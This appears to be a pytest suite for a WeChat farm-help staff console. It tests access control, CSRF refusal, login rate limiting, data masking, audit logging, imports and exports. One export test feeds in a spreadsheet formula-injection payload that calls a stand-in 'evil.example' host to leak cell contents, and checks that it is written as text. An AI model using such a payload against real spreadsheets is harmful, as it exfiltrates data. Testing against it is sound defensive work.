"""The staff console: who may see and do what, and that each page and action works."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine
from sqlmodel import Session, select

from bot.cli import main
from bot.wechat.api import WeChatAPI
from handlers import texts
from models.search import index_pending
from models.tables import AuditEvent, DutyShift, Expert, HelpRequest, MediaFile, Offer, utcnow
from scheduler.media import fetch_due_media
from scheduler.outbox import deliver_outbox
from tests.fake_wechat_api import FakeWeChatAPI
from tests.queries import rows
from tests.wechat_client import FakeWeChat, post, reply_text

CODE = re.compile(r"[A-Z][0-9]{3,6}")
PASSWORD = "correct-horse-battery"
PEPPER = "我家辣椒叶子发黄还有斑点 我是石坝村的 电话13912345678"


def add_staff(cli_env: dict[str, str], username: str, role: str) -> None:
    result = CliRunner().invoke(
        main,
        ["staff", "add", username, "--role", role, "--password-stdin"],
        env=cli_env,
        input=PASSWORD + "\n",
    )
    assert result.exit_code == 0, result.output


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found is not None, html[:500]
    return found.group(1)


def sign_in(client: FlaskClient, username: str, password: str = PASSWORD) -> Any:
    token = csrf_of(client.get("/console/login").get_data(as_text=True))
    return client.post(
        "/console/login",
        data={"username": username, "password": password, "csrf_token": token},
    )


@pytest.fixture
def a_request(client: FlaskClient, plain_wechat: FakeWeChat, county: None) -> str:
    reply = reply_text(
        plain_wechat, post(client, plain_wechat, plain_wechat.text("farmer-c", PEPPER))
    )
    found = CODE.search(reply)
    assert found is not None
    return found.group()


def urls(app: Flask) -> list[tuple[str, str]]:
    """Every console URL with its method, parameters filled with plausible values."""
    found = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/console") or rule.endpoint == "console.static":
            continue
        path = rule.rule
        for name, value in (
            ("<code>", "A1000"),
            ("<int:farmer_id>", "1"),
            ("<int:media_id>", "1"),
            ("<int:expert_id>", "1"),
            ("<int:team_id>", "1"),
            ("<int:shift_id>", "1"),
            ("<int:staff_id>", "1"),
            ("<fmt>", "xlsx"),
        ):
            path = path.replace(name, value)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):  # type: ignore[operator]
            found.append((method, path))
    return found


def test_every_console_url_but_login_needs_a_session(app: Flask) -> None:
    client = app.test_client()
    checked = 0
    for method, path in urls(app):
        if path in ("/console/login", "/console/logout"):
            continue
        response = client.open(path, method=method)
        assert response.status_code == 302, (method, path, response.status_code)
        assert response.headers["Location"].startswith("/console/login")
        checked += 1
    assert checked > 20


def test_a_viewer_gets_403_on_every_action_and_sees_masked_data(
    signed_in: Callable[[str], FlaskClient], a_request: str, app: Flask
) -> None:
    viewer = signed_in("viewer1")
    page = viewer.get(f"/console/requests/{a_request}").get_data(as_text=True)
    assert "139****5678" in page and "13912345678" not in page and "farmer-c" not in page
    assert "exp-wang" not in page and "王植保" in page  # experts by name, never by openid
    token = csrf_of(page)
    actions = [
        (m, p)
        for m, p in urls(app)
        if m == "POST" and p not in ("/console/login", "/console/logout")
    ]
    assert len(actions) >= 12
    for method, path in actions:
        response = viewer.open(
            path.replace("A1000", a_request), method=method, data={"csrf_token": token}
        )
        assert response.status_code == 403, (path, response.status_code)
    farmer_page = viewer.get("/console/farmers/1").get_data(as_text=True)
    assert "13912345678" not in farmer_page and "farmer-c" not in farmer_page


def test_a_post_without_a_valid_csrf_token_is_refused(
    signed_in: Callable[[str], FlaskClient], a_request: str
) -> None:
    coordinator = signed_in("coord1")
    for data in ({}, {"csrf_token": "forged"}):
        response = coordinator.post(
            f"/console/requests/{a_request}/note", data={"text": "x", **data}
        )
        assert response.status_code == 400
    with Session(coordinator.application.extensions["farmhelp.engine"]) as session:
        assert not [a for a in session.exec(select(AuditEvent)) if a.action == "note"]


def test_the_sixth_wrong_password_in_a_minute_is_not_even_checked(
    app: Flask, staff: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.web import auth

    client = app.test_client()
    checked: list[str] = []
    real = auth.password_ok
    monkeypatch.setattr(auth, "password_ok", lambda h, p: checked.append(p) or real(h, p))
    for attempt in range(5):
        page = sign_in(client, "coord1", f"wrong-{attempt}").get_data(as_text=True)
        assert "用户名或密码不对" in page
    assert len(checked) == 5
    refused = sign_in(client, "coord1", PASSWORD).get_data(as_text=True)  # even the right one
    assert "尝试次数太多" in refused and len(checked) == 5
    other = sign_in(app.test_client(), "admin1")  # another user from the same address
    assert other.status_code == 302 and other.headers["Location"] == "/console/"


def test_cookies_are_httponly_and_lax(app: Flask, staff: None) -> None:
    client = app.test_client()
    response = sign_in(client, "admin1")
    cookie = response.headers.get("Set-Cookie", "")
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_search_filters_and_the_request_page_timeline(
    signed_in: Callable[[str], FlaskClient],
    client: FlaskClient,
    plain_wechat: FakeWeChat,
    a_request: str,
    engine: Engine,
    api: WeChatAPI,
    fake_api: FakeWeChatAPI,
    settings: Any,
) -> None:
    post(client, plain_wechat, plain_wechat.text("farmer-d", "我家的猪不吃食 拉稀"))
    fake_api.media["leaf"] = (b"\x89PNG photo", "image/png")
    post(
        client, plain_wechat, plain_wechat.message("farmer-c", "image", PicUrl="p", MediaId="leaf")
    )
    fetch_due_media(engine=engine, source=api, media_dir=settings.media_dir, now=utcnow())
    with Session(engine) as session:
        index_pending(session, now=utcnow())
        session.commit()
    viewer = signed_in("viewer1")
    found = viewer.get("/console/requests", query_string={"q": "叶子发黄"}).get_data(as_text=True)
    assert a_request in found and "不吃食" not in found
    by_filter = viewer.get("/console/requests", query_string={"category": "livestock"}).get_data(
        as_text=True
    )
    assert "不吃食" in by_filter and a_request not in by_filter
    # The code farmers are given, as they read it out: any case, with or without the letter.
    for typed in (a_request, a_request.lower(), a_request[1:], f" {a_request[1:]} "):
        listed = viewer.get("/console/requests", query_string={"q": typed}).get_data(as_text=True)
        assert "共 1 条" in listed and f">{a_request}<" in listed, typed
    page = viewer.get(f"/console/requests/{a_request}").get_data(as_text=True)
    assert "叶子发黄" in page and "公众号回复" in page and "已派单待接" in page
    # The routing decision is the system's, not the farmer whose message confirmed it.
    events = re.findall(
        r'<li class="item event">\s*<div class="meta"><span class="who">([^<]*)</span>'
        r'[\s\S]*?<span class="tag">([^<]*)</span>',
        page,
    )
    assert ("系统", "已派单待接") in events and ("农户", "已派单待接") not in events, events
    photo = re.search(r'<img class="photo" src="([^"]+)"', page)
    assert photo is not None
    with viewer.get(photo.group(1)) as image:
        assert image.status_code == 200 and image.data == b"\x89PNG photo"


def test_reassign_pages_the_chosen_expert_and_is_audited(
    signed_in: Callable[[str], FlaskClient],
    a_request: str,
    engine: Engine,
    api: WeChatAPI,
    fake_api: FakeWeChatAPI,
    client: FlaskClient,
    plain_wechat: FakeWeChat,
) -> None:
    coordinator = signed_in("coord1")
    page = coordinator.get(f"/console/requests/{a_request}").get_data(as_text=True)
    with Session(engine) as session:
        zhao = session.exec(select(Expert).where(Expert.openid == "exp-zhao")).one()
    response = coordinator.post(
        f"/console/requests/{a_request}/reassign",
        data={"expert_id": str(zhao.id), "csrf_token": csrf_of(page)},
    )
    assert response.status_code == 302
    deliver_outbox(engine=engine, sender=api, now=utcnow())
    assert any(a_request in t for t in fake_api.texts_to("exp-zhao"))
    assert any("改派" in t for t in fake_api.texts_to("exp-wang"))
    offers = {o.expert_id: o.status for o in rows(engine, Offer)}
    assert offers[zhao.id] == "pending" and "withdrawn" in offers.values()
    entry = next(a for a in rows(engine, AuditEvent) if a.action == "reassign")
    assert entry.username == "coord1" and entry.target == f"request {a_request}"
    with Session(engine) as session:
        wang = session.exec(select(Expert).where(Expert.openid == "exp-wang")).one()
    assert entry.before == {"status": "offered", "expert_id": None, "offered": [wang.id]}
    assert "csrf_token" not in (entry.after or {})
    admin = signed_in("admin1")
    log = admin.get("/console/audit").get_data(as_text=True)
    # The log reads as a sentence, with names rather than ids, and holds no secret.
    assert f"协调员 coord1 把求助 {a_request} 改派给 赵植保（原：已派给 王植保，还没接）" in log
    assert "管理员 admin1 登录" in log

    def typed(openid: str, words: str) -> str:
        return reply_text(
            plain_wechat, post(client, plain_wechat, plain_wechat.text(openid, words))
        )

    # The earlier candidate (and a leader) typing 接单 do not override the staff's choice,
    # and are told who has it; the chosen expert takes it.
    for other in ("exp-wang", "exp-liu"):
        assert typed(other, f"接单 {a_request}") == texts.STAFF_CHOSE_OTHER.format(
            code=a_request, name="赵植保专家"
        )
    assert f"已接单 {a_request}" in typed("exp-zhao", "接单")


def test_close_reopen_note_and_unmasking_are_audited(
    signed_in: Callable[[str], FlaskClient], a_request: str, engine: Engine
) -> None:
    coordinator = signed_in("coord1")
    token = csrf_of(coordinator.get(f"/console/requests/{a_request}").get_data(as_text=True))
    base = f"/console/requests/{a_request}"
    coordinator.post(f"{base}/note", data={"text": "农户电话打不通", "csrf_token": token})
    coordinator.post(f"{base}/close", data={"reason": "电话已解决", "csrf_token": token})
    with Session(engine) as session:
        assert session.exec(select(HelpRequest)).one().status == "closed"
    coordinator.post(f"{base}/reopen", data={"reason": "农户又来问", "csrf_token": token})
    revealed = coordinator.post(f"{base}/reveal", data={"csrf_token": token}, follow_redirects=True)
    assert "13912345678" in revealed.get_data(as_text=True)
    actions = [a.action for a in rows(engine, AuditEvent) if a.username == "coord1"]
    assert actions[-4:] == ["note", "close", "reopen", "unmask"]


def test_exports_are_filtered_and_write_formulas_as_text(
    signed_in: Callable[[str], FlaskClient],
    client: FlaskClient,
    plain_wechat: FakeWeChat,
    county: None,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看") 种粮补贴怎么领'
    post(client, plain_wechat, plain_wechat.text("farmer-x", formula))
    post(client, plain_wechat, plain_wechat.text("farmer-y", "我家的猪不吃食"))
    viewer = signed_in("viewer1")
    xlsx = viewer.get("/console/requests/export.xlsx", query_string={"category": "other"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:3] == ("编号", "登记时间", "状态") and len(values) == 2
    cell = sheet.cell(row=2, column=8)
    assert cell.value == formula and cell.data_type == "s"
    csv_text = viewer.get("/console/requests/export.csv").data.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text


def test_admin_edits_experts_the_rota_and_staff(
    signed_in: Callable[[str], FlaskClient], county: None, engine: Engine
) -> None:
    admin = signed_in("admin1")
    token = csrf_of(admin.get("/console/experts").get_data(as_text=True))
    with Session(engine) as session:
        li = session.exec(select(Expert).where(Expert.openid == "exp-li")).one()
    admin.post(
        f"/console/experts/{li.id}",
        data={
            "name": "李植保",
            "team": "植保队",
            "specialties": "病虫害、栽培管理",
            "crops": "",
            "regions": "木鱼镇",
            "active": "on",
            "csrf_token": token,
        },
    )
    with Session(engine) as session:
        assert session.get(Expert, li.id).specialties == ["plant_protection", "cultivation"]  # type: ignore[union-attr]
    added = admin.post(
        "/console/rota/add",
        data={
            "expert_id": str(li.id),
            "start": "2030-01-07T08:00",
            "end": "2030-01-07T18:00",
            "csrf_token": token,
        },
        follow_redirects=True,
    )
    week = added.get_data(as_text=True)
    assert "08:00–18:00" in week
    overlapping = admin.post(
        "/console/rota/add",
        data={
            "expert_id": str(li.id),
            "start": "2030-01-07T12:00",
            "end": "2030-01-07T20:00",
            "csrf_token": token,
        },
        follow_redirects=True,
    )
    assert "重叠" in overlapping.get_data(as_text=True)
    admin.post(
        "/console/staff/add",
        data={
            "username": "new1",
            "role": "viewer",
            "password": "long-enough-pw",
            "csrf_token": token,
        },
    )
    actions = [a.action for a in rows(engine, AuditEvent) if a.username == "admin1"]
    assert {"expert_edit", "rota_add", "staff_add"} <= set(actions)
    log = admin.get("/console/audit").get_data(as_text=True)
    for said in (
        "管理员 admin1 修改了专家 李植保 的资料",
        "专业：病虫害 → 病虫害、栽培管理",
        "管理员 admin1 排了一个班：李植保 01-07 08:00 到 01-07 18:00",
        "管理员 admin1 新建了账号 new1（查看员）",
    ):
        assert said in log, said
    assert "long-enough-pw" not in log and "password" not in str(
        [(a.before, a.after) for a in rows(engine, AuditEvent)]
    )


def test_import_in_the_browser_reports_lines(signed_in: Callable[[str], FlaskClient]) -> None:
    admin = signed_in("admin1")
    token = csrf_of(admin.get("/console/import").get_data(as_text=True))
    body = "county,township,village\n青川县,木鱼镇,石坝村\n,木鱼镇,无县村\n".encode()
    page = admin.post(
        "/console/import",
        data={"kind": "places", "csrf_token": token, "file": (io.BytesIO(body), "places.csv")},
        content_type="multipart/form-data",
    ).get_data(as_text=True)
    assert "新增 1" in page and "第 3 行：县是空的" in page


def test_the_sample_sheets_download_and_read_as_a_county_fills_them(
    signed_in: Callable[[str], FlaskClient], engine: Engine
) -> None:
    """The import page's samples, headed in Chinese, are read as they are; their openids
    are placeholders to replace, so an expert sample uploaded unchanged makes no fake
    expert. A county's own sheet with Chinese headers, names and dates imports, its bad
    rows in Chinese."""
    admin = signed_in("admin1")
    page = admin.get("/console/import").get_data(as_text=True)
    assert "姓名、openid、电话、队、专业、作物、地区、组长、在岗" in page
    for kind, fmt, suffix, said in (
        ("experts", "xlsx", "xlsx", ("新增 0", "有问题的行 4", "第 2 行：openid“换成王植保关注")),
        ("duty", "csv", "csv", ("新增 0", "有问题的行 3", "第 2 行：没有 openid 是“换成王植保")),
        ("places", "xlsx", "xlsx", ("新增 4", "有问题的行 0")),
    ):
        link = f"/console/import/sample/{kind}.{fmt}"
        assert link in page
        sample = admin.get(link)
        assert sample.status_code == 200 and "attachment" in sample.headers["Content-Disposition"]
        result = admin.post(
            "/console/import",
            data={
                "kind": kind,
                "csrf_token": csrf_of(page),
                "file": (io.BytesIO(sample.data), f"sample.{suffix}"),
            },
            content_type="multipart/form-data",
        ).get_data(as_text=True)
        assert all(part in result for part in said), (kind, result[-800:])
    assert signed_in("viewer1").get("/console/import/sample/experts.csv").status_code == 403
    assert admin.get("/console/import/sample/secrets.csv").status_code == 404
    own = (
        "姓名,微信openid,手机,服务队,专业,作物,地区,是否组长,在岗\n"
        "孙水产,e-sun,13800000009,水产队,水产养殖,草鱼,木鱼镇,否,是\n"
        "钱农机,e-qian,,农机队,修车,,,否,是\n"
    ).encode("gb18030")
    result = admin.post(
        "/console/import",
        data={
            "kind": "experts",
            "csrf_token": csrf_of(page),
            "file": (io.BytesIO(own), "我的.csv"),
        },
        content_type="multipart/form-data",
    ).get_data(as_text=True)
    assert "新增 1" in result and "第 3 行：不认识的专业“修车”" in result, result[-800:]
    shifts = (
        "openid,开始时间,结束时间\n"
        "e-sun,2026/12/7 8:00,2026年12月7日 18点\n"
        "e-sun,2026/2/30 8:00,2026/3/1 8:00\n"
        "e-sun,2026/12/8 18:00,2026/12/8 24:00\n"
    )
    result = admin.post(
        "/console/import",
        data={
            "kind": "duty",
            "csrf_token": csrf_of(page),
            "file": (io.BytesIO(shifts.encode()), "值班.csv"),
        },
        content_type="multipart/form-data",
    ).get_data(as_text=True)
    assert "新增 2" in result and "第 3 行：“2026/2/30 8:00”这个日期或时间不存在" in result
    with Session(engine) as session:
        sun = session.exec(select(Expert).where(Expert.openid == "e-sun")).one()
        assert sun.specialties == ["aquaculture"] and sun.team == "水产队"
        shift, evening = session.exec(
            select(DutyShift).where(DutyShift.expert_id == sun.id).order_by(DutyShift.start)
        ).all()
        local = shift.start.astimezone(ZoneInfo("Asia/Shanghai"))
        assert (local.day, local.hour) == (7, 8)
        assert (shift.end - shift.start).total_seconds() == 10 * 3600
        ends = evening.end.astimezone(ZoneInfo("Asia/Shanghai"))
        assert (ends.day, ends.hour) == (9, 0)  # "24:00" is the next midnight


def test_staff_cli_lists_and_disables(cli_env: dict[str, str], app: Flask, staff: None) -> None:
    listed = CliRunner().invoke(main, ["staff", "list"], env=cli_env)
    assert "coord1\tcoordinator\tactive" in listed.output
    disabled = CliRunner().invoke(main, ["staff", "disable", "coord1"], env=cli_env)
    assert disabled.exit_code == 0
    assert "用户名或密码不对" in sign_in(app.test_client(), "coord1").get_data(as_text=True)


def test_an_idle_session_expires(signed_in: Callable[[str], FlaskClient]) -> None:
    viewer = signed_in("viewer1")
    assert viewer.get("/console/").status_code == 200
    with viewer.session_transaction() as session:
        session["seen"] = 0.0  # last seen long ago
    response = viewer.get("/console/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/console/login")


# One second of AMR-NB as WeChat sends it: the magic line, then 50 frames of 12.2 kbit/s
# (mode 7: a 0x3C header byte and 31 bytes of speech bits).
AMR_SECOND = b"#!AMR\n" + (b"\x3c" + bytes(31)) * 50


def test_voice_notes_are_kept_as_sent_and_play_as_mp3(
    signed_in: Callable[[str], FlaskClient],
    client: FlaskClient,
    plain_wechat: FakeWeChat,
    engine: Engine,
    api: WeChatAPI,
    fake_api: FakeWeChatAPI,
    settings: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    fake_api.media["v-amr"] = (AMR_SECOND, "audio/amr")
    fake_api.media["v-mp3"] = (b"ID3" + b"\x00" * 32, "audio/mpeg")
    for media_id in ("v-amr", "v-mp3"):
        voice = plain_wechat.message("farmer-v", "voice", MediaId=media_id, Format="amr")
        post(client, plain_wechat, voice)
    fetch_due_media(engine=engine, source=api, media_dir=settings.media_dir, now=utcnow())
    viewer = signed_in("viewer1")
    page = viewer.get("/console/farmers/1").get_data(as_text=True)
    assert page.count("<audio") == 2 and "浏览器放不了" not in page
    with Session(engine) as session:
        amr = session.exec(select(MediaFile).where(MediaFile.media_id == "v-amr")).one()
    with viewer.get(f"/console/media/{amr.id}?play=1") as played:
        assert played.status_code == 200 and played.mimetype == "audio/mpeg"
        mp3 = played.get_data()
    assert mp3[:3] == b"ID3" or (mp3[0] == 0xFF and mp3[1] & 0xE0 == 0xE0), mp3[:8]
    assert len(mp3) > 1000  # a second of sound, not an empty container
    stored = Path(str(amr.path))
    assert stored.read_bytes() == AMR_SECOND  # the original is kept as the farmer sent it
    assert stored.with_suffix(".mp3").read_bytes() == mp3  # converted once, beside it

    # Without a converter the page says so and offers the download instead.
    monkeypatch.setenv("IMAGEIO_FFMPEG_EXE", "/nonexistent/ffmpeg")
    stored.with_suffix(".mp3").unlink()
    page = viewer.get("/console/farmers/1").get_data(as_text=True)
    assert page.count("<audio") == 1 and "浏览器放不了" in page


@pytest.mark.usefixtures("county")
def test_the_place_filter_and_the_report_use_the_place_hierarchy(
    signed_in: Callable[[str], FlaskClient],
    client: FlaskClient,
    plain_wechat: FakeWeChat,
    engine: Engine,
) -> None:
    """`石坝` (no suffix) is 石坝村 of 木鱼镇; `东河` is 东河村 of 城关镇; `王家湾` is nowhere."""
    codes = {}
    for farmer, words in (
        ("farmer-p1", "玉米叶子上有虫子 我是石坝的"),
        ("farmer-p2", "玉米叶子上有虫子 东河"),
        ("farmer-p3", "玉米叶子上有虫子 王家湾村"),
    ):
        reply = reply_text(
            plain_wechat, post(client, plain_wechat, plain_wechat.text(farmer, words))
        )
        found = CODE.search(reply)
        assert found is not None, reply
        codes[farmer] = found.group()
    viewer = signed_in("viewer1")
    township = viewer.get("/console/requests", query_string={"place": "木鱼镇"}).get_data(
        as_text=True
    )
    assert codes["farmer-p1"] in township
    assert codes["farmer-p2"] not in township and codes["farmer-p3"] not in township
    village = viewer.get("/console/requests", query_string={"place": "东河村"}).get_data(
        as_text=True
    )
    assert codes["farmer-p2"] in village and codes["farmer-p1"] not in village
    month = utcnow().astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m")
    report = viewer.get("/console/reports", query_string={"month": month}).get_data(as_text=True)
    by_township = report.split("按乡镇", 1)[1].split("</section>", 1)[0]
    assert "木鱼镇" in by_township and "城关镇" in by_township
    dashboard = viewer.get("/console/").get_data(as_text=True)
    assert "没认出的地名" in dashboard and "王家湾村" in dashboard


def test_the_audit_log_never_keeps_a_secret_whoever_passes_one(engine: Engine) -> None:
    from models.staff import record_audit

    with Session(engine) as session:
        record_audit(
            session=session,
            username="coord1",
            action="reassign",
            target="request A1000",
            now=utcnow(),
            before={"password": "p4ss", "expert_id": 1},
            after={"csrf_token": "t0k", "api_key": "k3y", "submission": "s", "expert_id": "2"},
        )
        session.commit()
        entry = session.exec(select(AuditEvent)).one()
        assert entry.before == {"expert_id": 1} and entry.after == {"expert_id": "2"}
